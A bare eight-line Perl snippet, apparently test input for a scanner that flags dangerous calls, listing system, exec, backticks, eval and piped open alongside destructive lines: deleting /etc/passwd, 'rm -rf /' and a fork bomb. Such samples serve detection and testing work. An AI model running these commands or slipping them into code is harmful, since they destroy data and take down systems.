system("uptime");
exec $ARGV[0];
my $x = `ls`;
eval $code;
unlink "/etc/passwd";
open(F, "ls |");
system("rm", "-rf", "/");
fork while fork;
